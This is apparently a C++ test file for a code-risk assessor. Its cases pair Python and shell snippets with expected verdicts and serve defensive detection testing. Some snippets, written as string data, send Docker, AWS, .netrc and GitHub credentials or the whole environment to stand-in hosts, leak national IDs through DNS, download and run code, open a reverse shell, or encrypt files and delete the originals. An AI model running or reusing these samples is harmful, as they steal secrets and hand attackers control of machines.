// The classes the twenty-second session modelled (issue 14): a tune miss
// left by the seventy-eighth round (tests/corpus/prog82_MANIFEST.tsv) and
// the classes of the eightieth round's tune part (prog84_MANIFEST.tsv),
// found by programs written from the rubric alone by writers who never saw
// the assessor. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A directory moved or copied whole carries the files the code wrote into
// it: a downloaded module staged, swapped into place and imported is still
// the download.
TEST(EightiethRoundClasses, ADirectoryMovedWholeCarriesTheFilesWrittenIntoIt) {
  const Case cases[] = {
      {"a module downloaded into staging/, staging renamed to current/, then exec_module", B,
       "import importlib.util, requests\n"
       "from pathlib import Path\n"
       "staging, current = Path('rules/staging'), Path('rules/current')\n"
       "staging.mkdir(parents=True, exist_ok=True)\n"
       "(staging / 'zone.py').write_bytes(requests.get('https://feed.example.org/zone.py', timeout=9).content)\n"
       "staging.rename(current)\n"
       "spec = importlib.util.spec_from_file_location('zone', current / 'zone.py')\n"
       "mod = importlib.util.module_from_spec(spec)\n"
       "spec.loader.exec_module(mod)\n",
       "REMOTE-CODE-EXECUTION"},
      {"the same through shutil.copytree and runpy", B,
       "import runpy, shutil, urllib.request\n"
       "import os\n"
       "os.makedirs('pack/new', exist_ok=True)\n"
       "urllib.request.urlretrieve('https://feed.example.org/hook.py', 'pack/new/hook.py')\n"
       "shutil.copytree('pack/new', 'pack/live', dirs_exist_ok=True)\n"
       "runpy.run_path('pack/live/hook.py')\n",
       "REMOTE-CODE-EXECUTION"},
      {"downloaded tables staged and swapped into place, then only read", L,
       "import json, requests\n"
       "from pathlib import Path\n"
       "staging, current = Path('fares/staging'), Path('fares/current')\n"
       "staging.mkdir(parents=True, exist_ok=True)\n"
       "(staging / 'zones.json').write_bytes(requests.get('https://feed.example.org/zones.json', timeout=9).content)\n"
       "staging.rename(current)\n"
       "print(len(json.loads((current / 'zones.json').read_text())))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// The keys of a credential store read at run time (registry names in
// ~/.docker/config.json) are names: a summary that lists them is not the
// credentials. Its values still are, however they are unpacked.
TEST(EightiethRoundClasses, TheKeysOfACredentialStoreAreNotItsSecrets) {
  const char* head =
      "import json, requests\n"
      "from pathlib import Path\n"
      "cfg = json.load(open(Path.home() / '.docker' / 'config.json'))\n"
      "auths = cfg.get('auths', {})\n";
  const std::pair<const char*, RiskLevel> bodies[] = {
      {"names = [name for name, entry in auths.items()]\n"
       "requests.post('https://chat.example.org/hook', json={'rotated': names}, timeout=5)\n", L},
      {"requests.post('https://chat.example.org/hook', json=sorted(auths.keys()), timeout=5)\n", L},
      {"for name, entry in cfg['auths'].items():\n"
       "    requests.post('https://chat.example.org/hook', json={'registry': name}, timeout=5)\n", L},
      {"for name, entry in auths.items():\n"
       "    requests.post('https://x.example.org/h', data=entry['auth'], timeout=5)\n", B},
      {"requests.post('https://x.example.org/h', json=list(auths.items()), timeout=5)\n", B},
      {"requests.post('https://x.example.org/h', data='\\n'.join(f'{k}={v}' for k, v in auths.items()), timeout=5)\n", B},
      {"for name in auths.keys():\n"
       "    requests.post('https://x.example.org/h', data=auths[name]['auth'], timeout=5)\n", B},
  };
  for (const auto& [body, level] : bodies) {
    const std::string code = std::string(head) + body;
    Case c{body, level, code.c_str(), level == B ? "EXFILTRATION" : nullptr};
    check(c);
  }
}

// jq's `env` and `$ENV` read the environment (the whole of it, or one
// variable); `${A[@]+"${A[@]}"}` is the array where it is set (the set -u
// idiom for an array that may be empty); a file named at run time with a
// distinctive suffix in the working directory is the one read back.
TEST(EightiethRoundClasses, JqReadsTheEnvironmentAndArraysSurviveTheSetUIdiom) {
  const Case cases[] = {
      {"the whole environment mirrored into a job spec by jq's env and posted", B,
       "#!/bin/bash\n"
       "spec=$(jq -n '{vars: env, user: $ENV.USER}')\n"
       "curl -sS --data \"$spec\" https://intake.example.net/jobs\n",
       "EXFILTRATION", Language::shell},
      {"the same through a spec file named after the scene ($1.job.json)", B,
       "#!/bin/bash\n"
       "jq -n '{vars: env}' > \"$1.job.json\"\n"
       "curl -sS --data @\"$1.job.json\" https://intake.example.net/jobs\n",
       "EXFILTRATION", Language::shell},
      {"cloud credentials passed to jq by an array expanded the set -u way", B,
       "#!/bin/bash\n"
       "set -u\n"
       "extra=()\n"
       "for f in \"$HOME/.aws/credentials\" \"$HOME/.netrc\"; do\n"
       "  [[ -r $f ]] && extra+=(--rawfile \"$(basename \"$f\")\" \"$f\")\n"
       "done\n"
       "spec=$(jq -n ${extra[@]+\"${extra[@]}\"} '{files: $ARGS.named}')\n"
       "curl -sS --data \"$spec\" https://intake.example.net/jobs\n",
       "EXFILTRATION", Language::shell},
      {"one ordinary variable and an input field named env", L,
       "#!/bin/bash\n"
       "spec=$(jq -n --arg s \"$1\" '{scene: $s, shell: env.SHELL}')\n"
       "jq -r '.env' settings.json\n"
       "jq -n --arg show \"$SHOW\" '{env: {SHOW: $show}, note: \"env\"}' > job.json\n"
       "curl -sS --data \"$spec\" https://intake.example.net/jobs\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// Old backup sets pruned from the backup directory the code writes its
// encrypted copies into (backups/<date>, named at run time) are its own
// output, not the originals it walked; removing the walked originals stays
// ransomware.
TEST(EightiethRoundClasses, PruningItsOwnEncryptedBackupSetsIsNotRansomware) {
  const char* head =
      "import os, shutil\n"
      "from datetime import date\n"
      "from pathlib import Path\n"
      "from cryptography.fernet import Fernet\n"
      "f = Fernet(Fernet.generate_key())\n"
      "dest = Path('backups') / date.today().isoformat()\n"
      "for dirpath, _d, files in os.walk('exports'):\n"
      "    for name in files:\n"
      "        src = Path(dirpath, name)\n"
      "        out = dest / (name + '.enc')\n"
      "        out.parent.mkdir(parents=True, exist_ok=True)\n"
      "        out.write_bytes(f.encrypt(src.read_bytes()))\n";
  const Case cases[] = {
      {"old sets beyond the newest seven removed", L, nullptr, nullptr},
      {"the walked originals removed", B, nullptr, "RANSOMWARE-ENCRYPT-AND-DELETE"},
  };
  const std::string prune = std::string(head) +
                            "for old in sorted(p for p in Path('backups').iterdir() if p.is_dir())[:-7]:\n"
                            "    shutil.rmtree(old)\n";
  const std::string remove = std::string(head) + "        os.remove(src)\n";
  Case c0 = cases[0], c1 = cases[1];
  c0.code = prune.c_str();
  c1.code = remove.c_str();
  check(c0);
  check(c1);
}

// An AWS profile's or region's name is configuration, not a secret; the
// keys are. A configuration section's getboolean converts its text: the
// shipped default "no" turns TLS verification off.
TEST(EightiethRoundClasses, AwsSettingsAreNotSecretsAndSectionGettersConvertTheirText) {
  const Case cases[] = {
      {"diagnostics with the AWS profile and region posted with the batch", L,
       "import os, requests\n"
       "diag = {'profile': os.environ.get('AWS_PROFILE', 'default'), 'region': os.getenv('AWS_REGION')}\n"
       "requests.post('https://sync.example.org/api/checkins', json=diag, timeout=20)\n",
       nullptr},
      {"the AWS secret key posted the same way", B,
       "import os, requests\n"
       "diag = {'key': os.environ.get('AWS_SECRET_ACCESS_KEY', '')}\n"
       "requests.post('https://sync.example.org/api/checkins', json=diag, timeout=20)\n",
       "EXFILTRATION"},
      {"verify_tls=no shipped in the section's defaults", M,
       "import configparser, requests\n"
       "cp = configparser.ConfigParser()\n"
       "cp['sync'] = {'endpoint': 'https://sync.example.org/api', 'verify_tls': 'no'}\n"
       "cp.read('agent.ini')\n"
       "cfg = cp['sync']\n"
       "requests.get(cfg['endpoint'] + '/ping', timeout=5, verify=cfg.getboolean('verify_tls'))\n",
       "TLS-VERIFICATION-OFF"},
      {"verify_tls=yes shipped the same way", L,
       "import configparser, requests\n"
       "cp = configparser.ConfigParser()\n"
       "cp['sync'] = {'endpoint': 'https://sync.example.org/api', 'verify_tls': 'yes'}\n"
       "cp.read('agent.ini')\n"
       "cfg = cp['sync']\n"
       "requests.get(cfg['endpoint'] + '/ping', timeout=5, verify=cfg.getboolean('verify_tls'))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A key from the environment posted in the body of an API's token or
// sign-in endpoint is exchanged for a session there: authentication. Named
// after another vendor, or to a collector, it is still exfiltration.
TEST(EightiethRoundClasses, AKeyPostedToAnApisTokenEndpointIsAuthentication) {
  const Case cases[] = {
      {"the claims key exchanged at the clearinghouse's /v1/auth/token", L,
       "#!/bin/bash\n"
       "API_BASE=\"${CLAIMS_API_BASE:-https://uat.rxswitch.example.com/v1}\"\n"
       "token=$(curl -sS -X POST \"$API_BASE/auth/token\" -H 'Content-Type: application/json' \\\n"
       "  -d \"$(jq -n --arg k \"$CLAIMS_API_KEY\" '{api_key: $k}')\" | jq -r .access_token)\n"
       "curl -sS -H \"Authorization: Bearer $token\" \"$API_BASE/claims/42\"\n",
       nullptr, Language::shell},
      {"the same in Python, to /oauth/token", L,
       "import os, requests\n"
       "r = requests.post('https://api.fleetdesk.example.com/oauth/token',\n"
       "                  json={'client_secret': os.environ['FLEETDESK_CLIENT_SECRET']}, timeout=10)\n"
       "print(r.json()['access_token'])\n",
       nullptr},
      {"a GitHub token posted to another host's /login", B,
       "import os, requests\n"
       "requests.post('https://metrics.example.net/api/login', json={'t': os.environ['GITHUB_TOKEN']}, timeout=10)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// csv.reader and DictReader give the rows of the file they read: a
// column of a CSV spelled into DNS labels leaves the machine by DNS.
TEST(EightiethRoundClasses, CsvRowsCarryTheFilesContents) {
  const Case cases[] = {
      {"national ids from a CSV base32-encoded into lookups under a third-party zone", B,
       "import base64, csv, socket, sys\n"
       "with open(sys.argv[1], newline='') as fh:\n"
       "    for row in csv.DictReader(fh):\n"
       "        label = base64.b32encode(row['national_id'].encode()).decode().rstrip('=').lower()\n"
       "        socket.getaddrinfo(f\"{label}.{row['id']}.edge.example-cdn.net\", 443)\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the same rows posted to the screening vendor's API", L,
       "import csv, sys, requests\n"
       "with open(sys.argv[1], newline='') as fh:\n"
       "    for row in csv.reader(fh):\n"
       "        requests.post('https://api.screening.example.com/v2/orders', json={'id': row[0]}, timeout=30)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// The parser's own typed getters read the options the code set with
// read_dict: escape_html "no" is Jinja2 autoescaping off by default.
TEST(EightiethRoundClasses, TheParsersTypedGettersReadTheOptionsTheCodeSet) {
  const char* head =
      "import configparser\n"
      "from jinja2 import Environment, FileSystemLoader\n"
      "cp = configparser.ConfigParser()\n";
  const std::string off = std::string(head) +
                          "cp.read_dict({'render': {'escape_html': 'no'}})\n"
                          "cp.read('payslips.ini')\n"
                          "env = Environment(loader=FileSystemLoader('t'), autoescape=cp.getboolean('render', 'escape_html'))\n";
  const std::string on = std::string(head) +
                         "cp.read_dict({'render': {'escape_html': 'yes'}})\n"
                         "cp.read('payslips.ini')\n"
                         "env = Environment(loader=FileSystemLoader('t'), autoescape=cp.getboolean('render', 'escape_html'))\n";
  check(Case{"escape_html no by default", M, off.c_str(), "TEMPLATE-AUTOESCAPE-OFF"});
  check(Case{"escape_html yes by default", L, on.c_str(), nullptr});
}

// A virtual environment's own pip installs into that environment only: the
// project's work (LOW). pip of the user or the system, and npm, stay
// INSTALLS-PACKAGES; a typosquat is judged whichever pip installs it. An
// option's run-time value does not hide the default it may replace when the
// default is known only in part (the config file beside the script).
TEST(EightiethRoundClasses, AVirtualEnvironmentsOwnPipIsTheProjectsWork) {
  const Case cases[] = {
      {"venv/bin/pip install -r requirements.txt", L,
       "#!/bin/sh\nset -e\npython3 -m venv \"$APP_DIR/venv\"\n\"$APP_DIR/venv/bin/pip\" install -q -r \"$APP_DIR/requirements.txt\"\n",
       nullptr, Language::shell},
      {"pip after sourcing the venv's activate", L,
       "#!/bin/bash\npython3 -m venv .venv\n. .venv/bin/activate\npip install -r requirements.txt\n", nullptr,
       Language::shell},
      {"pip install --user", M, "#!/bin/sh\npip install --user requests\n", "INSTALLS-PACKAGES", Language::shell},
      {"a typosquat into the venv", B, "#!/bin/sh\npython3 -m venv v\nv/bin/pip install reqeusts\n", nullptr,
       Language::shell},
      {"a config beside the script sourced, or the one -c names", L,
       "#!/bin/bash\n"
       "WORKDIR=\"$(cd \"$(dirname \"$(readlink -f \"$0\")\")\" && pwd)\"\n"
       "CONFIG=\"${WORKDIR}/trail-status.conf\"\n"
       "while getopts \"c:\" opt; do case \"$opt\" in c) CONFIG=\"$OPTARG\" ;; esac; done\n"
       "[ -f \"$CONFIG\" ] && . \"$CONFIG\"\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// SQL whose text is known whole on every path (constant clauses joined
// around "?" placeholders) has nothing formatted into it that could inject;
// a value known only at run time formatted in is still SQL-INJECTION.
TEST(EightiethRoundClasses, SqlKnownWholeOnEveryPathIsNotFormattedInput) {
  const Case cases[] = {
      {"WHERE clauses of constants joined, parameters passed", L,
       "import sqlite3\n"
       "def search(name, bin_, low):\n"
       "    clauses, params = [], []\n"
       "    if name:\n"
       "        clauses.append('name LIKE ?')\n"
       "        params.append(f'%{name}%')\n"
       "    if low:\n"
       "        clauses.append('qty <= reorder')\n"
       "    where = (' WHERE ' + ' AND '.join(clauses)) if clauses else ''\n"
       "    return sqlite3.connect('stock.db').execute('SELECT sku FROM items' + where, params).fetchall()\n",
       nullptr},
      {"a table name from a constant", L,
       "import sqlite3\ntable = 'users'\nsqlite3.connect('a.db').execute(f'SELECT * FROM {table} WHERE id = ?', (1,))\n",
       nullptr},
      {"the name itself formatted in", M,
       "import sqlite3, sys\nname = sys.argv[1]\n"
       "sqlite3.connect('a.db').execute(\"SELECT sku FROM items WHERE name = '\" + name + \"'\")\n",
       "SQL-INJECTION"},
  };
  for (const auto& c : cases) check(c);
}

// Who and where sent to a collector the user may change (a configuration
// default read over by the user's file) is the application's reporting; to
// an address written into the code and nowhere else, a check-in.
TEST(EightiethRoundClasses, IdentityToAConfiguredCollectorIsNotABeacon) {
  const char* body =
      "import configparser, getpass, json, socket, urllib.request\n"
      "cp = configparser.ConfigParser()\n"
      "cp.read_dict({'collector': {'url': 'https://logs.depot.example.net/v2/ingest'}})\n"
      "cp.read('collector.ini')\n"
      "meta = {'host': socket.gethostname(), 'user': getpass.getuser()}\n"
      "req = urllib.request.Request(cp['collector']['url'], data=json.dumps(meta).encode())\n"
      "urllib.request.urlopen(req, timeout=20)\n";
  const char* beacon =
      "import getpass, json, socket, urllib.request\n"
      "meta = {'host': socket.gethostname(), 'user': getpass.getuser()}\n"
      "req = urllib.request.Request('https://reg.example.net/v2/hello', data=json.dumps(meta).encode())\n"
      "urllib.request.urlopen(req, timeout=20)\n";
  check(Case{"to the configured collector", L, body, nullptr});
  check(Case{"to an address written into the code", B, beacon, "IDENTITY-BEACON"});
}

// A connected socket's sends go where it connected, with that address's
// provenance: a kiosk's heartbeat naming itself to the relay the user sets
// ($SCOREBOARD_RELAY) is the user's choice.
TEST(EightiethRoundClasses, AConnectedSocketsSendsKeepTheAddresssProvenance) {
  const Case cases[] = {
      {"a heartbeat with the host name to a relay from the environment", L,
       "import os, socket\n"
       "spec = os.environ.get('SCOREBOARD_RELAY', 'relay.example.net:7443')\n"
       "host, _, port = spec.rpartition(':')\n"
       "with socket.create_connection((host, int(port)), timeout=10) as conn:\n"
       "    conn.sendall(f'KIOSK {socket.gethostname()} OK\\n'.encode())\n",
       nullptr},
      {"the same to an address written in the code", M,
       "import socket\n"
       "with socket.create_connection(('relay.example.net', 7443), timeout=10) as conn:\n"
       "    conn.sendall(f'KIOSK {socket.gethostname()} OK\\n'.encode())\n",
       "HOST-IDENTITY-SENT"},
  };
  for (const auto& c : cases) check(c);
}

// `not` of a value whose truth is known is known: autoescape set to
// `not html_templates`, the parameter's default True, is off.
TEST(EightiethRoundClasses, NotOfAKnownTruthIsKnown) {
  const Case cases[] = {
      {"autoescape: not html_templates (default True), through a settings dict", M,
       "from jinja2 import Environment, FileSystemLoader\n"
       "def template_env(template_dir, html_templates=True):\n"
       "    settings = {'loader': FileSystemLoader(template_dir), 'autoescape': not html_templates}\n"
       "    return Environment(**settings)\n"
       "env = template_env('templates')\n",
       "TEMPLATE-AUTOESCAPE-OFF"},
      {"autoescape: not plain_text (default False)", L,
       "from jinja2 import Environment, FileSystemLoader\n"
       "def template_env(template_dir, plain_text=False):\n"
       "    return Environment(loader=FileSystemLoader(template_dir), autoescape=not plain_text)\n"
       "env = template_env('templates')\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A request on an http.client connection goes to the connection's host;
// a key handed to a service on this machine (a local daemon's API on
// localhost) stays on it. Elsewhere the host decides, as for any request (a
// key named after another vendor is exfiltration).
TEST(EightiethRoundClasses, AKeyHandedToALocalServiceStaysOnTheMachine) {
  const Case cases[] = {
      {"a database password given to a local agent on localhost", L,
       "import http.client, json, os\n"
       "conn = http.client.HTTPConnection('localhost', 8080, timeout=5)\n"
       "conn.request('POST', '/v1/config', body=json.dumps({'p': os.environ['DB_PASSWORD']}))\n",
       nullptr},
      {"a GitHub token given to another host that way", B,
       "import http.client, json, os\n"
       "conn = http.client.HTTPSConnection('collect.example.net', timeout=5)\n"
       "conn.request('POST', '/v1/config', body=json.dumps({'t': os.environ['GITHUB_TOKEN']}))\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Once standard input and output are a connected socket (os.dup2), a
// program known only at run time that is exec'd in the process may be a
// shell: a reverse shell, whatever settings named it. A known program that
// is not a shell is judged as before.
TEST(EightiethRoundClasses, AnUnknownProgramOnASocketsStdioMayBeAShell) {
  const char* head =
      "import os, socket, sys\n"
      "conn = socket.create_connection(('203.0.113.24', 4444), timeout=10)\n"
      "for target in (0, 1, 2):\n"
      "    os.dup2(conn.fileno(), target)\n";
  const std::string unknown = std::string(head) + "console = sys.argv[1].split()\nos.execvp(console[0], console)\n";
  const std::string known = std::string(head) + "os.execvp('sftp-server', ['sftp-server'])\n";
  check(Case{"a console named at run time", B, unknown.c_str(), "REVERSE-SHELL"});
  EXPECT_FALSE(has_rule(py(known), "REVERSE-SHELL")) << describe(py(known));
}

// A handler class of the code's own that derives from SimpleHTTPRequestHandler
// shares a directory as its base does.
TEST(EightiethRoundClasses, ASubclassOfTheFileServingHandlerSharesADirectory) {
  check(Case{"a quiet SimpleHTTPRequestHandler through functools.partial", M,
             "import functools\n"
             "from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer\n"
             "class QuietHandler(SimpleHTTPRequestHandler):\n"
             "    def log_message(self, fmt, *args):\n"
             "        pass\n"
             "handler = functools.partial(QuietHandler, directory='public')\n"
             "ThreadingHTTPServer(('127.0.0.1', 8088), handler).serve_forever()\n",
             "DEBUG-OR-FILE-SERVER"});
  check(Case{"an API handler deriving from BaseHTTPRequestHandler", L,
             "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
             "class Api(BaseHTTPRequestHandler):\n"
             "    def do_GET(self):\n"
             "        self.send_response(200)\n"
             "        self.end_headers()\n"
             "        self.wfile.write(b'ok')\n"
             "ThreadingHTTPServer(('127.0.0.1', 8088), Api).serve_forever()\n",
             nullptr});
}

// $PWD is the working directory; a directory this code made or extracted an
// archive into is followed by `cd` wherever its start is (the script's own
// directory found at run time): the downloaded bundle's apply hook run from
// there is the download.
TEST(EightiethRoundClasses, AnExtractedBundlesHookRunFromItsDirectoryIsTheDownload) {
  const Case cases[] = {
      {"$PWD/downloads, cd into the extracted bundle, sh ./apply.sh", B,
       "#!/bin/sh\n"
       "DL=\"$PWD/downloads\"\n"
       "curl -fsS -o \"$DL/agent.tar.gz\" https://tms.example.com/agent.tar.gz\n"
       "mkdir -p \"$DL/agent-new\"\n"
       "tar -xzf \"$DL/agent.tar.gz\" -C \"$DL/agent-new\"\n"
       "( cd \"$DL/agent-new\" && sh ./apply.sh )\n",
       "REMOTE-CODE-EXECUTION", Language::shell},
      {"the same under the script's own directory", B,
       "#!/bin/sh\n"
       "HERE=$(cd \"$(dirname \"$0\")\" && pwd)\n"
       "curl -fsS -o \"$HERE/agent.tar.gz\" https://tms.example.com/agent.tar.gz\n"
       "mkdir -p \"$HERE/agent-new\"\n"
       "tar -xzf \"$HERE/agent.tar.gz\" -C \"$HERE/agent-new\"\n"
       "( cd \"$HERE/agent-new\" && sh ./apply.sh )\n",
       "REMOTE-CODE-EXECUTION", Language::shell},
      {"a local bundle's hook run the same way", L,
       "#!/bin/sh\n"
       "HERE=$(cd \"$(dirname \"$0\")\" && pwd)\n"
       "mkdir -p \"$HERE/agent-new\"\n"
       "tar -xzf \"$HERE/agent.tar.gz\" -C \"$HERE/agent-new\"\n"
       "( cd \"$HERE/agent-new\" && sh ./apply.sh )\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
